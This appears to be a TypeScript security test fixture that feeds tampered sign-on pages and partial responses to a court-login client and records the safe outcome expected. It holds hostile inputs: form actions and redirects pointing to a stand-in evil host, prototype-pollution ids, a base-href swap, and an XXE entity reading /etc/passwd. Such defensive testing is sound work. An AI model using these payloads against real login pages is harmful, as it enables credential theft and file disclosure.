import type { Attack } from './attack.ts';
import { said } from './attack.ts';

const call =
  ' onclick="PrimeFaces.ab({s:&quot;loginForm:fbtnLogin&quot;,u:&quot;pscLoginPanel loginForm redactionConfirmation popupMsgId&quot;});return false;"';
const clicks = (onclick: string): Attack['tries'][number] =>
  said('sign-on-page', [call, ` onclick="${onclick}"`]);
const ab = "PrimeFaces.ab({s:'loginForm:fbtnLogin',u:'pscLoginPanel'});";
const scripted = (...all: string[]): Attack['tries'][number] =>
  said('sign-on-page', ['</body>', `${all.map((one) => `<script>${one}</script>`).join('')}</body>`]);

/** Scripts that are read as evidence, never run, and made to be misread. */
export const scripts: readonly Attack[] = [
  {
    attack: 'A PrimeFaces call in a comment, in a string, behind a condition, or with computed values',
    tries: [
      clicks(`/* ${ab} */`),
      clicks(`var x = '${ab.replaceAll("'", '')}'`),
      clicks(`if (evil) ${ab}`),
      clicks('PrimeFaces.ab({s:atob(x),u:y})'),
      clicks(`eval(name); ${ab}`),
      clicks("PrimeFaces.ab({s:'a'+'b',u:'x'});return false;"),
    ],
    ends: 'linked',
    safe: 'taken for no call; the form is sent plainly, to its own address',
  },
  {
    attack: 'A PrimeFaces call that names another form, another address or further fields',
    tries: [
      clicks("PrimeFaces.ab({s:'loginForm:fbtnLogin',f:'evilForm',u:'pscLoginPanel'});return false;"),
      clicks("PrimeFaces.ab({s:'evilForm:button',u:'pscLoginPanel'});return false;"),
      clicks(
        "PrimeFaces.ab({s:'loginForm:fbtnLogin',u:'pscLoginPanel',url:'%evil%/collect',action:'%evil%'});return false;",
      ),
      clicks(
        "PrimeFaces.ab({s:'loginForm:fbtnLogin',u:'pscLoginPanel',pa:[{name:'__proto__',value:'x'},{name:'constructor',value:'y'}]});return false;",
      ),
    ],
    ends: 'linked',
    safe: 'sent to the form’s own address, whatever the call says',
  },
  {
    attack:
      'A script that leads away only if something happens, in a function, in a string or by a computed address',
    tries: [
      scripted(
        'function go() { location.assign("%evil%/"); }',
        'if (0) location.assign("%evil%/");',
        'var x = \'location.assign("%evil%/")\';',
        'location.assign("%evil%" + "/");',
        '// location.assign("%evil%/")',
        'location["assign"]("%evil%/"); window["loc"+"ation"] = "%evil%/";',
      ),
    ],
    ends: 'linked',
    safe: 'no script is run, and none of these is taken for one that leads on',
  },
  {
    attack:
      'A script or `<eval>` that shows or hides a dialog which is not there, or names one like `__proto__`',
    tries: [
      scripted(
        'PF("redactionDlg2").show();PF("__proto__").show();PF("constructor").show();PrimeFaces.widgets.toString.show();',
      ),
      scripted('PrimeFaces.cw("Dialog","__proto__",{id:"constructor",visible:true});'),
    ],
    ends: 'linked',
    safe: 'a dialog counts only where its content is in the page',
  },
  {
    attack: 'An `<eval>` that leads to another host',
    tries: [
      {
        back: 'eval',
        faults: [
          {
            at: 'passcode',
            does: { name: 'bent', bend: { replace: [['%court%/cgi-bin/login.pl', '%evil%/']] } },
          },
        ],
      },
    ],
    ends: 'unsafe-address',
  },
  {
    attack: 'A partial answer that replaces the view root or the form by one that posts elsewhere',
    tries: [
      said('sign-on', ['action="/csologin/login.jsf"', 'action="%evil%/collect"']),
      { updates: 'root', ...said('sign-on', ['action="/csologin/login.jsf"', 'action="%court%/collect"']) },
      { updates: 'root', ...said('sign-on', ['<head', '<head><base href="%evil%/"></head><head']) },
    ],
    ends: 'unsafe-address',
  },
  {
    attack: 'A partial answer that updates `__proto__`, or has a document type and entities of its own',
    tries: [
      said('sign-on', [
        '<changes>',
        '<changes><update id="__proto__"><![CDATA[<b>x]]></update><update id=""><![CDATA[x]]></update>',
      ]),
      said('sign-on', [
        '<changes>',
        '<changes><update id="constructor"></update><extension ln="x"/><attributes id="x"/><insert/><delete id="pscLoginPanel2"/>',
      ]),
      said('sign-on', [
        "encoding='UTF-8'?>",
        "encoding='UTF-8'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'><!ENTITY b '&a;&a;'>]>",
      ]),
    ],
    ends: 'linked',
    safe: 'updates of what is not in the page change nothing, and no entity is read',
  },
];
